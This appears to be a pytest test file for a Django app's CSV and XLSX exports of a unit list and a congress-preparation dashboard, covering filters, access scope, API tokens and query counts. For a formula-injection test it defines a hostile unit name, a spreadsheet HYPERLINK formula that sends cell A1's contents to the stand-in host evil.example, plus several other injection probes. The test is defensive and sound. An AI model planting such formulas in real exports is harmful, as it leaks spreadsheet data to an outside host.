"""Exports of the list of units and of the dashboard, as CSV and XLSX: what the user sees,
filters applied, every row; formula injection neutralised; the same scope as the pages."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

import pytest
import time_machine
from django.urls import reverse
from openpyxl import load_workbook

from accounts import services as account_services
from committees.models import Level
from congresses import services
from congresses.models import MilestoneStatus
from dashboards.exports import csv_cell
from congresses.selectors import current_terms
from dashboards.selectors import unit_dashboard
from tests.factories import UnitFactory, ViewerFactory

TODAY = dt.date(2025, 5, 1)
NOW = dt.datetime(2025, 5, 1, 3, 0, tzinfo=dt.UTC)
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")'


@pytest.fixture(autouse=True)
def _today():
    with time_machine.travel(NOW, tick=False):
        yield


@pytest.fixture
def world(term, tree, admin_user):
    """The conftest tree with congresses, and one unit whose name and code are formulas."""
    t = tree
    t.hostile = UnitFactory(code="+41", name=HOSTILE_NAME, kind="cell", level=Level.GRASSROOTS, parent=t.commune_b)
    user = admin_user
    services.congress_create(unit=t.commune_a, term=term, user=user, planned_date=dt.date(2025, 7, 15),
                             registered_on=dt.date(2025, 4, 1))
    services.congress_create(unit=t.commune_b, term=term, user=user, planned_date=dt.date(2025, 7, 20), is_pilot=True)
    a1 = services.congress_create(unit=t.cell_a1, term=term, user=user, planned_date=dt.date(2025, 6, 10),
                                  registered_on=dt.date(2025, 4, 2)).congress
    services.milestone_update(milestone=a1.milestones.get(step__code="plan"), user=user,
                              status=MilestoneStatus.DONE, done_on=dt.date(2025, 3, 1))
    t.term = term
    return t


def url(name: str, unit, query: str = "") -> str:
    return reverse(f"dashboards:{name}", args=[unit.pk]) + (f"?{query}" if query else "")


def page_codes(client, unit, query: str = "") -> list[str]:
    response = client.get(url("unit_units", unit, query))
    assert response.status_code == 200
    return re.findall(r'<tr data-code="([^"]*)"', response.content.decode())


def read_csv(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response.streaming
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:])))


def read_xlsx(response):
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    return load_workbook(io.BytesIO(response.content))


@pytest.fixture
def admin_client(client_for, admin_user):
    return client_for(admin_user)


# --- The list -------------------------------------------------------------------------------


@pytest.mark.parametrize("query", ["", "missing=registered&ordering=-date", "level=grassroots", "registered=no&ordering=code"])
def test_list_csv_has_the_rows_of_the_page_in_its_order(world, admin_client, query):
    response = admin_client.get(url("unit_units_csv", world.province, query))
    rows = read_csv(response)
    assert rows[0][:3] == ["Unit", "Code", "Level"]
    codes = [r[1] for r in rows[1:]]
    assert codes == [c if not c.startswith("+") else "'" + c for c in page_codes(admin_client, world.province, query)]
    assert re.fullmatch(r'attachment; filename="t-units-2025-05-01\.csv"', response["Content-Disposition"])


def test_list_csv_shows_what_the_page_shows(world, admin_client):
    rows = read_csv(admin_client.get(url("unit_units_csv", world.province, "q=thôn 1")))
    header, (row,) = rows[0], rows[1:]
    cell = dict(zip(header, row, strict=True))
    assert cell == {
        "Unit": "Chi bộ thôn 1", "Code": "A1", "Level": "Grassroots", "Kind": "Party cell",
        "Parent unit": "Đảng bộ xã An Phú", "Congress date": "10/06/2025", "Date registered": "02/04/2025",
        "Status": "Preparing", "Pilot congress": "No", "Steps done": "2", "Steps": "11",  # plan, register
        "Overdue steps": cell["Overdue steps"], "Next step": cell["Next step"],
    }
    assert int(cell["Overdue steps"]) > 0 and cell["Next step"]


def test_list_xlsx_has_a_title_the_filters_and_the_rows(world, admin_client):
    query = "missing=registered&level=grassroots"
    response = admin_client.get(url("unit_units_xlsx", world.province, query))
    assert response["Content-Disposition"] == 'attachment; filename="t-units-2025-05-01.xlsx"'
    ws = read_xlsx(response).active
    rows = list(ws.iter_rows(values_only=True))
    assert "Units below Tỉnh ủy Thử nghiệm" in rows[0][0] and "Congress date not registered first" in rows[0][0]
    assert "Level: Grassroots" in rows[1][0] and "01/05/2025" in rows[1][0]
    assert rows[2][:3] == ("Unit", "Code", "Level")
    assert ws.freeze_panes == "A4"
    assert ws.column_dimensions["A"].width > 20
    codes = [r[1] for r in rows[3:]]
    assert codes == page_codes(admin_client, world.province, query) == ["A2", "+41", "A1"]
    a1 = next(r for r in ws.iter_rows(min_row=4) if r[1].value == "A1")
    assert a1[5].value == dt.datetime(2025, 6, 10) and a1[5].number_format == "DD/MM/YYYY"  # a real date
    assert a1[9].value == 2 and a1[9].data_type == "n"


def test_list_exports_have_every_row_not_one_page(world, admin_client, monkeypatch):
    from dashboards import views

    monkeypatch.setattr(views, "UNIT_LIST_PAGE_SIZE", 2)
    assert len(page_codes(admin_client, world.province)) == 2
    assert len(read_csv(admin_client.get(url("unit_units_csv", world.province, "page=1")))) == 1 + 5
    assert read_xlsx(admin_client.get(url("unit_units_xlsx", world.province))).active.max_row == 3 + 5


def test_list_headers_follow_the_language(world, client_for, admin_user):
    rows = read_csv(client_for(admin_user, language="vi").get(url("unit_units_csv", world.province)))
    assert rows[0][0] == "Đơn vị"


def test_formula_injection_is_neutralised(world, admin_client):
    rows = read_csv(admin_client.get(url("unit_units_csv", world.province, "q=%2B41")))
    (row,) = rows[1:]
    assert row[0] == "'" + HOSTILE_NAME and row[1] == "'+41"
    ws = read_xlsx(admin_client.get(url("unit_units_xlsx", world.province, "q=%2B41"))).active
    (cells,) = list(ws.iter_rows(min_row=4))
    assert (cells[0].value, cells[0].data_type) == (HOSTILE_NAME, "s")  # text, never a formula
    assert (cells[1].value, cells[1].data_type) == ("+41", "s")


@pytest.mark.parametrize(("value", "shown"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("An Phú", "An Phú"), (-1, -1), (3, 3), (None, ""), (dt.date(2025, 6, 1), "01/06/2025"), (True, "Yes"),
])
def test_csv_cell(value, shown, english):
    assert csv_cell(value) == shown


# --- The dashboard --------------------------------------------------------------------------


def test_dashboard_xlsx_has_the_summary_the_steps_and_the_children(world, admin_client):
    d = unit_dashboard(unit=world.province, terms=current_terms(), today=TODAY)
    response = admin_client.get(url("unit_dashboard_xlsx", world.province))
    assert response["Content-Disposition"] == 'attachment; filename="t-dashboard-2025-05-01.xlsx"'
    wb = read_xlsx(response)
    assert wb.sheetnames == ["Summary", "Steps", "Subordinate units"]
    summary = {r[0]: r[1:] for r in wb["Summary"].iter_rows(min_row=4, values_only=True)}
    t = d.totals
    assert summary["Units below"][0] == t.units_total == 5
    assert summary["Congress date registered"][:2] == (t.registered, t.units_total) == (2, 5)
    assert summary["Congress date registered"][2] == pytest.approx(0.4)
    assert summary["Congresses held"][:2] == (t.held, t.units_total)
    assert summary["Pilot congresses held"][:2] == (t.pilots_held, t.pilots)
    assert summary["Steps done"][:2] == (t.steps_done, t.steps_total)
    assert summary["Overdue steps"][0] == t.overdue
    assert summary["Grassroots held"][:2] == (0, 3)
    assert wb["Summary"]["A1"].value == "Dashboard — Tỉnh ủy Thử nghiệm"
    steps = list(wb["Steps"].iter_rows(min_row=4, values_only=True))
    assert [(r[1], r[2], r[3]) for r in steps] == [(s.step.code, s.done, s.total) for s in d.steps]
    children = list(wb["Subordinate units"].iter_rows(min_row=4, values_only=True))
    assert [r[1] for r in children] == [r.unit.code for r in d.children]
    a = next(r for r in children if r[1] == "A")
    assert a[3] == dt.datetime(2025, 7, 15) and a[12:14] == (2, 0)  # two units below, none held


def test_dashboard_csv_is_the_table_of_children(world, admin_client):
    d = unit_dashboard(unit=world.province, terms=current_terms(), today=TODAY)
    response = admin_client.get(url("unit_dashboard_csv", world.province))
    assert response["Content-Disposition"] == 'attachment; filename="t-dashboard-2025-05-01.csv"'
    rows = read_csv(response)
    assert rows[0][:2] == ["Unit", "Code"]
    assert [r[1] for r in rows[1:]] == [r.unit.code for r in d.children] == ["A", "B"]
    b = dict(zip(rows[0], rows[2], strict=True))
    assert b["Pilot congress"] == "Yes" and b["Congress date"] == "20/07/2025" and b["Units below"] == "1"


def test_pages_link_to_their_exports(world, admin_client):
    html = admin_client.get(url("unit_dashboard", world.province)).content.decode()
    assert f'href="{url("unit_dashboard_xlsx", world.province)}"' in html
    assert f'href="{url("unit_dashboard_csv", world.province)}"' in html
    html = admin_client.get(url("unit_units", world.province, "level=upper&page=1")).content.decode()
    assert f'href="{url("unit_units_xlsx", world.province)}?level=upper"' in html
    assert f'href="{url("unit_units_csv", world.province)}?level=upper"' in html


# --- Scope ----------------------------------------------------------------------------------

PAGES = ["unit_dashboard", "unit_dashboard_json", "unit_dashboard_csv", "unit_dashboard_xlsx",
         "unit_units", "unit_units_csv", "unit_units_xlsx"]
EXPORTS = ["unit_dashboard_json", "unit_dashboard_csv", "unit_dashboard_xlsx", "unit_units_csv", "unit_units_xlsx"]


@pytest.mark.parametrize("name", PAGES)
def test_out_of_scope_users_get_404(world, client_for, secretary_b, secretary_cell, name):
    outsider = ViewerFactory(username="outsider", unit=world.commune_b)
    for user, unit in [(secretary_b, world.commune_a), (secretary_cell, world.commune_a), (outsider, world.province)]:
        assert client_for(user).get(url(name, unit)).status_code == 404
    assert client_for(secretary_b).get(url(name, world.commune_b)).status_code == 200


@pytest.mark.parametrize("name", PAGES)
def test_sign_in_required(world, client_for, name):
    response = client_for(None).get(url(name, world.province))
    if name == "unit_dashboard_json":
        assert response.status_code == 401  # scripts: no redirect to a login page
        assert response.json() == {"error": "Sign in or send an API token."}
    else:
        # Pages and exports are links people open in a browser: the login page, then back.
        assert response.status_code == 302
        assert response["Location"] == f"/login/?next={url(name, world.province)}"


def test_an_api_token_downloads_in_its_owners_scope(world, client_for, secretary_b):
    from django.test import Client

    _token, key = account_services.api_token_create(user=secretary_b, name="export script")
    script = Client(headers={"authorization": f"Bearer {key}", "accept-language": "en"})
    rows = read_csv(script.get(url("unit_units_csv", world.commune_b)))
    assert [r[1] for r in rows[1:]] == ["'+41"]
    assert script.get(url("unit_units_csv", world.commune_a)).status_code == 404
    assert script.get(url("unit_dashboard_xlsx", world.province)).status_code == 404


# --- Cost -----------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["unit_units_csv", "unit_units_xlsx"])
def test_list_exports_cost_a_fixed_number_of_queries(world, admin_client, django_assert_max_num_queries, name):
    for i in range(30):
        UnitFactory(parent=world.commune_b, level=Level.GRASSROOTS)
    with django_assert_max_num_queries(8):
        response = admin_client.get(url(name, world.province, "missing=held&ordering=-overdue"))
        if response.streaming:
            b"".join(response.streaming_content)
    assert response.status_code == 200
